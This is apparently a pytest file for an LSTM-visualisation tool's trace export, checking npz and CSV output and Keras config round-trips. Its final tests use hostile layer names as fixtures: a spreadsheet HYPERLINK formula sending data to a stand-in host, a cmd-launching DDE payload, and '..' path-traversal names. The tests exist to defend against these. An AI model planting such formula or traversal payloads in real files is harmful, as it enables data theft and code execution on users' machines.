"""app/export_data.py without Qt: the window's trace export and `lstmviz trace --out`
write the same arrays; the CSV table and the Keras config read back."""

from __future__ import annotations

import numpy as np

from helpers import FIXTURES, read_inputs
from lstmviz import cli
from lstmviz.app import export_data
from lstmviz.app.state import AppState
from lstmviz.io import spec_from_keras_config
from lstmviz.io.keras3_config import KEYS


def test_the_window_export_and_the_cli_write_the_same_npz(tmp_path, capsys):
    case = FIXTURES / "k3_rnn_cells"
    np.save(tmp_path / "x.npy", read_inputs(case))
    assert cli.main(["trace", str(case / "model.keras"), "--input", str(tmp_path / "x.npy"),
                     "--out", str(tmp_path / "cli.npz")]) == 0
    import lstmviz

    trace = lstmviz.load(case / "model.keras", isolate=False).trace(read_inputs(case))
    export_data.save_npz(trace, tmp_path / "app.npz")
    a, b = np.load(tmp_path / "cli.npz"), np.load(tmp_path / "app.npz")
    assert sorted(a.files) == sorted(b.files) and "rnn_lstm/f" in a.files
    for key in a.files:
        np.testing.assert_array_equal(a[key], b[key], err_msg=key)
    rows = export_data.csv_text(trace).splitlines()
    assert rows[0] == "layer,key,sample,step,unit,value"
    f = trace["rnn_lstm"].steps["f"]
    assert f"rnn_lstm,f,1,2,3,{float(f[1, 2, 3])!r}" in rows


def test_the_stack_exports_as_a_keras_config_that_reads_back():
    state = AppState()
    state.rebuild()
    config = export_data.keras_config(state)
    spec = spec_from_keras_config(config)
    assert [l.class_name for l in spec.layers] == ["InputLayer"] + [e.class_name for e in state.layers]
    assert set(config["config"]["layers"][1]["config"]) == set(KEYS["LSTM"]) | {"name", "trainable", "dtype"}


def test_a_graph_refused_as_a_keras_config_says_what_it_is():
    """File > Export > Keras config of an opened ONNX LSTM (one input, one chain) said
    "this model has several inputs or branches", true of neither; the refusal now says
    what the model is, as the side panel does."""
    import pytest

    import lstmviz
    from lstmviz.errors import LstmvizError

    cases = [(FIXTURES / "onnx_torch_classic_lstm" / "model.onnx", "this is an ONNX graph"),
             (FIXTURES / "k3_seq2seq_lstm" / "model.keras", "this model has 2 inputs"),
             (FIXTURES / "k3_two_outputs" / "model.keras", "this model has branches")]
    for path, says in cases:
        state = AppState()
        state.set_model(lstmviz.load(path, isolate=False), str(path))
        assert state.readonly
        with pytest.raises(LstmvizError) as err:
            export_data.keras_config(state)
        assert str(err.value) == f"only a plain stack exports as a Keras Sequential config; {says}"


def test_the_csv_of_a_long_inputs_window_counts_steps_in_the_whole_sequence():
    """File > Export trace (.csv) on a long input at step 5,000: the window holds steps
    4,864..5,119, and the table says so (it said 0..255, with those steps' values)."""
    import lstmviz

    path = FIXTURES / "k3_lstm_default" / "model.keras"
    st = AppState()
    st.set_model(lstmviz.load(path))
    x = np.random.default_rng(0).normal(size=(1, 6000, 3)).astype(np.float32)
    st.set_input_data(x)
    assert st.long is not None
    st.long.run_pass()
    window, _ = st.long.window_at(5000)
    assert window.start == 4864
    full = lstmviz.load(path).trace(x)["lstm"].steps["h"]
    rows = [r.split(",") for r in export_data.csv_text(window).splitlines()[1:] if r.startswith("lstm,h,")]
    steps = sorted({int(r[3]) for r in rows})
    assert steps == list(range(4864, 4864 + window["lstm"].steps["h"].shape[1]))
    for _layer, _key, s, t, u, v in rows:
        assert float(v) == float(full[int(s), int(t), int(u)])


def test_the_csv_of_a_long_inputs_window_holds_the_models_output_of_its_steps_only():
    """A model whose output has steps (the demo's TimeDistributed): the .csv of a window at
    step 150,000 of 200,000 wrote the whole sequence's output, 200,000 rows a unit (a
    return_sequences LSTM(512) at the end: 100 million), numbered from the window's first
    step, so up to step 349,887 of a 200,000-step input. Now the output's rows are those
    of the window's steps, numbered as its records' are."""
    import lstmviz
    from lstmviz.app.demos import DEMOS_DIR

    model = lstmviz.load(DEMOS_DIR / "sine_predictor.keras")
    st = AppState()
    st.set_model(model)
    x = np.sin(np.arange(6000) / 50.0).astype(np.float32)[None, :, None]
    st.set_input_data(x)
    st.long.run_pass()
    window, _ = st.long.window_at(5000)
    a, b = export_data.window_of(window)
    assert (a, b) == (4864, 5120)
    rows = [r.split(",") for r in export_data.csv_text(window).splitlines()[1:]]
    assert {int(r[3]) for r in rows if r[3]} == set(range(a, b))
    out = [r for r in rows if r[0] == "output"]
    full = model.trace(x).output
    assert [int(r[3]) for r in out] == list(range(a, b))
    for _layer, _key, smp, t, u, v in out:
        assert float(v) == float(full[int(smp), int(t), int(u)])


def test_the_npz_of_a_long_inputs_window_says_its_steps(tmp_path):
    """The .npz of a long input's window held steps 4,864..5,119 with nothing saying which:
    read back alone, its arrays looked like the first 256 steps. It now holds
    'lstmviz:steps' = [first step, step after the last, steps in the sequence]."""
    import lstmviz

    path = FIXTURES / "k3_lstm_default" / "model.keras"
    st = AppState()
    st.set_model(lstmviz.load(path))
    x = np.random.default_rng(0).normal(size=(1, 6000, 3)).astype(np.float32)
    st.set_input_data(x)
    st.long.run_pass()
    window, _ = st.long.window_at(5000)
    out = export_data.save_npz(window, tmp_path / "w.npz")
    with np.load(out) as npz:
        a, b, total = (int(v) for v in npz[export_data.STEPS_KEY])
        assert (a, b, total) == (4864, 4864 + npz["lstm/h"].shape[1], 6000)
        full = lstmviz.load(path).trace(x)["lstm"].steps["h"]
        np.testing.assert_array_equal(npz["lstm/h"], full[:, a:b])
        assert export_data.SAMPLE_KEY not in npz.files
        # (a trace recording no numbers over the steps, as every one before them: none written)
        assert {rec for _k, _l, _p, rec in npz[export_data.KEYS_KEY].tolist()}.isdisjoint({"m", "S", "mean", "var"})


def test_an_attention_softmaxs_m_and_s_are_exported_whole_and_in_a_long_inputs_window(tmp_path):
    """What the Cell view's step page of a Softmax over the steps shows beside each step, m
    and S over every step (``LayerTrace.stats``), was in no export. The .npz (the app's and
    ``lstmviz trace``'s: ``trace_arrays``) holds them under 'a/m' and 'a/S', indexed as
    layer 'a''s records 'm' and 'S'; a long input's window the whole sequence's (the keyframe
    pass's), equal to a whole trace's; the CSV a row a sample and unit, with no step."""
    import lstmviz

    case = FIXTURES / "k3_attention_pooling"
    model = lstmviz.load(case / "model.keras", isolate=False)
    x = read_inputs(case)
    trace = model.trace(x)
    stats = trace["a"].stats
    assert set(stats) == {"m", "S"} and stats["m"].shape == (x.shape[0], 1, 1)
    e = trace["e"].output.astype(np.float64)  # (what they are: NumPy's over the Softmax's input)
    np.testing.assert_allclose(stats["m"], e.max(axis=1, keepdims=True), rtol=1e-6)
    np.testing.assert_allclose(stats["S"], np.exp(e - e.max(axis=1, keepdims=True)).sum(axis=1, keepdims=True),
                               rtol=1e-5)
    with np.load(export_data.save_npz(trace, tmp_path / "t.npz")) as npz:
        rows = {key: (layer, part, rec) for key, layer, part, rec in npz[export_data.KEYS_KEY].tolist()}
        assert rows["a/m"] == ("a", "", "m") and rows["a/S"] == ("a", "", "S")
        for k in ("m", "S"):
            np.testing.assert_array_equal(npz[f"a/{k}"], stats[k])
    table = [r.split(",") for r in export_data.csv_text(trace).splitlines()[1:]]
    got = {(r[2], r[3], r[4]): float(r[5]) for r in table if r[:2] == ["a", "S"]}
    assert got == {(str(s), "", "0"): float(stats["S"][s, 0, 0]) for s in range(x.shape[0])}

    long_x = np.random.default_rng(4).normal(size=(1, 5000, x.shape[2])).astype(np.float32)
    st = AppState()
    st.set_model(model)
    st.set_input_data(long_x)
    assert st.long is not None and st.long.run_pass()
    window, _ = st.long.window_at(3000)
    assert window.start > 0 and window["a"].output.shape[1] < 5000
    whole = model.trace(long_x)["a"].stats
    with np.load(export_data.save_npz(st.long.by_processing(window), tmp_path / "w.npz")) as npz:
        assert [int(v) for v in npz[export_data.STEPS_KEY]][2] == 5000
        for k in ("m", "S"):
            np.testing.assert_array_equal(npz[f"a/{k}"], whole[k])
    rows = [r.split(",") for r in export_data.csv_text(window).splitlines()[1:]]
    got = {(r[2], r[3], r[4]): float(r[5]) for r in rows if r[:2] == ["a", "m"]}
    assert got == {("0", "", "0"): float(whole["m"][0, 0, 0])}


def test_a_long_inputs_window_exports_processing_steps_as_lstmviz_trace_steps(tmp_path):
    """The views' window of a long input is of input steps: a Bidirectional's backward half
    holds the processing steps reading them (T-b..T-a-1). A trace file says one range of
    processing steps for every record (``lstmviz:steps``, as ``lstmviz trace --steps``), so
    File > Export trace writes the window by processing steps (``by_processing``): each
    record, the backward half's too, equal to the full trace's steps a..b-1."""
    from lstmviz import LayerSpec, Model

    model = Model.sequential((None, None, 2), [LayerSpec("Bidirectional", {"layer": {
        "class_name": "GRU", "config": {"units": 3, "return_sequences": True}}}, name="bi")], seed=2)
    st = AppState()
    st.set_model(model)
    x = np.random.default_rng(1).normal(size=(1, 6000, 2)).astype(np.float32)
    st.set_input_data(x)
    assert st.long is not None and st.long.run_pass()
    window, _ = st.long.window_at(5000)
    a = window.start
    b = a + window["bi"].children["forward"].timesteps
    assert window["bi"].children["backward"].start == 6000 - b  # (the views' window)
    out = export_data.save_npz(st.long.by_processing(window), tmp_path / "w.npz")
    full = model.trace(x)["bi"]
    with np.load(out) as npz:
        assert [int(v) for v in npz[export_data.STEPS_KEY]] == [a, b, 6000]
        for side in ("forward", "backward"):
            np.testing.assert_array_equal(npz[f"bi/{side}/h"], full.children[side].steps["h"][:, a:b])


def test_the_csv_names_a_layer_whose_name_holds_a_slash_whole(tmp_path):
    """A Keras 2 file's layer named '<b>x</b>' was split at its '/': layer '<b>x<', key
    'b>/f' in the table."""
    import lstmviz
    from helpers import legacy_lstm_file

    model = lstmviz.load(legacy_lstm_file(tmp_path / "m.h5", ["<b>x</b>", "a/b"]), isolate=False)
    trace = model.trace(np.zeros((1, 4, 3), "f4"))
    rows = [r.split(",") for r in export_data.csv_text(trace).splitlines()[1:]]
    pairs = {(r[0], r[1]) for r in rows}
    assert ("<b>x</b>", "f") in pairs and ("a/b", "c") in pairs and ("a/b", "") in pairs
    assert {layer for layer, _ in pairs} == {"output", "<b>x</b>", "a/b", "dense"}


def _hostile_named_model():
    """Names a flat key could not tell apart: 'a/f' (layer 'a''s forget gate, or layer 'a/f'),
    'b:1' (layer 'b''s second output, or layer 'b:1'), a Bidirectional 'enc/bi' (its
    'enc/bi/forward/h'), a literal '%2F', and 'output' (the model's output) before the last."""
    from lstmviz import LayerSpec, Model

    gru = {"class_name": "GRU", "config": {"units": 2, "return_sequences": True}}
    return Model.sequential((None, 5, 2), [
        LayerSpec("LSTM", {"units": 3, "return_sequences": True}, name="a"),
        LayerSpec("LSTM", {"units": 3, "return_sequences": True}, name="a/f"),
        LayerSpec("Bidirectional", {"layer": gru}, name="enc/bi"),
        LayerSpec("SimpleRNN", {"units": 2, "return_sequences": True}, name="b:1"),
        LayerSpec("GRU", {"units": 2, "return_sequences": True}, name="b"),
        LayerSpec("SimpleRNN", {"units": 2, "return_sequences": True}, name="x%2Fy"),
        LayerSpec("Dense", {"units": 2}, name="output"),
        LayerSpec("Dense", {"units": 1}, name="last"),
    ], seed=3)


def _records(trace) -> dict:
    """Every array of ``trace`` by (layer, part, record), from its records, not its keys;
    the model's outputs under layer ''."""
    want = {}
    outs = trace.outputs
    for k, arr in enumerate(outs):
        want[("", "", "output" if len(outs) == 1 else f"output{k}")] = arr

    def add(name, part, rec):
        if not part:
            for k, arr in enumerate(rec.outputs):
                want[(name, "", "output" if k == 0 else f"output:{k}")] = arr
        for key, arr in rec.steps.items():
            want[(name, part, key)] = arr
        for key, arr in rec.initial_state.items():
            want[(name, part, f"initial_{key}")] = arr
        if rec.mask is not None and rec.steps:
            want[(name, part, "mask")] = rec.mask
        for key, arr in rec.stats.items():
            want[(name, part, key)] = arr
        for child, crec in rec.children.items():
            add(name, child, crec)

    for name, rec in trace.layers.items():
        add(name, "", rec)
    return want


def test_npz_keys_of_layers_named_with_slash_and_colon_map_back_to_their_records(tmp_path):
    """A layer named 'a/f' wrote its output under 'a/f', over layer 'a''s forget gate (one
    array lost, and no way to tell the keys apart). Now a name's '%', '/' and ':' are
    written %25, %2F, %3A (a name that is 'output' its first letter %6F), other names as
    before, and 'lstmviz:keys' maps every key to its (layer, part, record)."""
    from urllib.parse import unquote

    model = _hostile_named_model()
    x = np.random.default_rng(0).normal(size=(2, 5, 2)).astype(np.float32)
    trace = model.trace(x)
    want = _records(trace)
    out = export_data.save_npz(trace, tmp_path / "t.npz")
    with np.load(out) as npz:  # (no pickle: the index is a plain string array)
        index = npz[export_data.KEYS_KEY]
        assert index.dtype.kind == "U" and index.shape == (len(want), 4)
        rows = {key: (layer, part, rec) for key, layer, part, rec in index.tolist()}
        assert len(rows) == len(want) and set(rows) == set(npz.files) - {export_data.KEYS_KEY}
        assert sorted(rows.values()) == sorted(want)  # each record once, under one key
        for key, where in rows.items():
            np.testing.assert_array_equal(npz[key], want[where], err_msg=key)
            if where[0]:  # the documented reading: the first part, unquoted, is the layer
                head, *rest = key.split("/")
                layer, _, k = head.partition(":")
                assert unquote(layer) == where[0], key
                assert "/".join(rest) == "/".join(p for p in where[1:] if p and not p.startswith("output")), key
        assert {"a/f", "a/i", "a", "b", "b/h", "last"} <= set(npz.files)  # (as before)
        assert "b:1/h" not in npz.files and "b:1" not in npz.files
    assert rows["a/f"] == ("a", "", "f") and rows["a%2Ff"] == ("a/f", "", "output")
    assert rows["enc%2Fbi/backward/h"] == ("enc/bi", "backward", "h")
    assert rows["b%3A1/h"] == ("b:1", "", "h") and rows["x%252Fy"] == ("x%2Fy", "", "output")
    assert rows["output"] == ("", "", "output") and rows["%6Futput"] == ("output", "", "output")
    np.testing.assert_array_equal(want[("", "", "output")], trace["last"].output)


def test_the_csv_of_layers_named_with_slash_and_colon_names_each_whole():
    trace = _hostile_named_model().trace(np.ones((1, 5, 2), np.float32))
    pairs = {tuple(r.split(",")[:2]) for r in export_data.csv_text(trace).splitlines()[1:]}
    assert {("a", "f"), ("a/f", ""), ("a/f", "f"), ("enc/bi", "backward/h"), ("b:1", "h"),
            ("x%2Fy", "h"), ("output", "")} <= pairs


def test_npz_members_of_layers_named_dot_dot_or_with_a_backslash_stay_inside_the_archive(tmp_path):
    """A layer named '..' wrote members '../h.npy' (and '..\\\\x' '..\\\\x/h.npy'): paths out of
    the folder for an unzip that follows them. Such names are percent-encoded too
    ('%2E%2E', '%5C'), the index says whose each key is."""
    import zipfile

    from lstmviz import LayerSpec, Model

    model = Model.sequential((None, 3, 2), [
        LayerSpec("SimpleRNN", {"units": 2, "return_sequences": True}, name=".."),
        LayerSpec("SimpleRNN", {"units": 2, "return_sequences": True}, name="..\\x"),
        LayerSpec("SimpleRNN", {"units": 2}, name=".")], seed=0)
    trace = model.trace(np.ones((1, 3, 2), np.float32))
    out = export_data.save_npz(trace, tmp_path / "t.npz")
    with zipfile.ZipFile(out) as zf:
        names = zf.namelist()
    assert not [n for n in names if "\\" in n or {".", ".."} & set(n.split("/"))], names
    with np.load(out) as npz:
        rows = {key: (layer, part, rec) for key, layer, part, rec in npz[export_data.KEYS_KEY].tolist()}
        assert rows["%2E%2E/h"] == ("..", "", "h") and rows["..%5Cx/h"] == ("..\\x", "", "h")
        assert rows["%2E"] == (".", "", "output")
        np.testing.assert_array_equal(npz["%2E%2E/h"], trace[".."].steps["h"])


def test_the_csv_names_a_layers_extra_outputs_apart_from_a_layer_named_with_a_colon():
    """Layer 'b''s second output (return_state) was written as layer 'b:1', key '': the
    rows of a layer named 'b:1' (an ONNX node's name may hold a ':'). Now layer 'b', key
    'output:1', as the .npz's index names it."""
    from lstmviz import LayerSpec, Model

    model = Model.sequential((None, 3, 2), [
        LayerSpec("SimpleRNN", {"units": 2, "return_sequences": True}, name="b:1"),
        LayerSpec("LSTM", {"units": 2, "return_state": True}, name="b")], seed=0)
    trace = model.trace(np.ones((1, 3, 2), np.float32))
    rows = [r.split(",") for r in export_data.csv_text(trace).splitlines()[1:]]
    got = {(r[0], r[1]): [] for r in rows}
    for layer, key, _sample, step, unit, value in rows:
        got[(layer, key)].append((step, int(unit), float(value)))
    for k, name in ((1, "output:1"), (2, "output:2")):
        want = trace["b"].outputs[k]
        assert got[("b", name)] == [("", u, float(want[0, u])) for u in range(2)]
    out = trace["b:1"].output
    assert got[("b:1", "")] == [(str(t), u, float(out[0, t, u])) for t in range(3) for u in range(2)]


def test_a_csv_cell_of_a_layer_named_as_a_spreadsheet_formula_is_text():
    """A layer named '=HYPERLINK("http://...?"&B2, "open")' in a stranger's file was written
    as it is into the trace's .csv: a spreadsheet opening it runs the formula (quoted or not),
    sending a cell's numbers away. Such a name is written after a ', as OWASP advises; a
    name that begins otherwise is written whole."""
    import csv
    import io

    from lstmviz import LayerSpec, Model

    names = ['=HYPERLINK("http://evil.example/?"&F2,"open")', "+1+cmd|' /C calc'!A0",
             "-2", "@SUM(A1)", "\tx", "plain=name"]
    model = Model.sequential((None, 3, 2), [
        LayerSpec("SimpleRNN", {"units": 2, "return_sequences": True}, name=n) for n in names], seed=0)
    trace = model.trace(np.ones((1, 3, 2), np.float32))
    rows = list(csv.reader(io.StringIO(export_data.csv_text(trace))))[1:]
    layers = {r[0] for r in rows}
    assert {"'" + n for n in names[:-1]} | {"plain=name", "output"} == layers
    assert not [r for r in rows if r[0][:1] in ("=", "+", "-", "@", "\t", "\r")]
